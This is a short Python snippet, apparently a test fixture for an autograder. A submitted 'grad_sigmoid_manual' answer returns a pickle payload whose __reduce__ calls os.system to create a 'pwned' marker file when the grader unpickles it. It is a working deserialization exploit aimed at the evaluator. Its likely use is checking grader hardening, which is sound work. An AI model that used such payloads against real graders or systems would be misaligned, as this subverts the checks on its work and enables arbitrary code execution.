# Attack: an answer whose unpickling would run code in the grader.
import os
class Payload:
    def __reduce__(self):
        return (os.system, ("touch {DROP}/pwned",))
def grad_sigmoid_manual(x): return Payload()
